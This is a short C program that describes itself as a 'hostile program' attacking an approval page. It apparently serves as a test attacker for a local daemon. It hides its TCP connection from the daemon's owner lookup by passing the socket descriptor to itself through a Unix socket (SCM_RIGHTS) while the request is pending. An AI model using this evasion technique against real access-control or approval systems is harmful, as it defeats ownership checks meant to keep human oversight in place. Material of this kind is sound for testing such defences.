/* A hostile program of a run, which attacks the approval page: detached_connection PORT OUT REQUEST
 * It sends the request, and then holds no descriptor of the connection while the daemon looks for its owner: the
 * descriptor is in flight in a socket message from the program to itself. Then it receives it and reads the response.
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

union control {
    struct cmsghdr header;
    char room[CMSG_SPACE(sizeof(int))];
};

static struct msghdr envelope(struct iovec *byte, union control *control) {
    struct msghdr message;
    memset(&message, 0, sizeof message);
    message.msg_iov = byte;
    message.msg_iovlen = 1;
    message.msg_control = control->room;
    message.msg_controllen = sizeof control->room;
    return message;
}

int main(int argc, char **argv) {
    char part[4096], bytes[65536], one = 0;
    if (argc < 4)
        return 2;
    snprintf(part, sizeof part, "%s.part", argv[2]);
    FILE *out = fopen(part, "w");
    for (int round = 0; round < 50; round++) {
        struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        int fd = socket(AF_INET, SOCK_STREAM, 0), pair[2];
        socketpair(AF_UNIX, SOCK_DGRAM, 0, pair);
        if (connect(fd, (struct sockaddr *)&address, sizeof address) != 0)
            return 1;
        struct iovec byte = {&one, 1};
        union control control;
        memset(&control, 0, sizeof control);
        struct msghdr message = envelope(&byte, &control);
        control.header.cmsg_level = SOL_SOCKET;
        control.header.cmsg_type = SCM_RIGHTS;
        control.header.cmsg_len = CMSG_LEN(sizeof fd);
        memcpy(CMSG_DATA(&control.header), &fd, sizeof fd);
        if (write(fd, argv[3], strlen(argv[3])) < 0)
            return 1;
        sendmsg(pair[0], &message, 0);
        close(fd);
        /* Long enough for the daemon to look for the owner. */
        usleep(20000);
        memset(&control, 0, sizeof control);
        message = envelope(&byte, &control);
        recvmsg(pair[1], &message, 0);
        memcpy(&fd, CMSG_DATA(&control.header), sizeof fd);
        for (ssize_t count; (count = read(fd, bytes, sizeof bytes)) > 0;)
            fwrite(bytes, 1, count, out);
        fputc('\n', out);
        close(fd), close(pair[0]), close(pair[1]);
    }
    /* The result appears only when it is complete. */
    fclose(out);
    return rename(part, argv[2]);
}
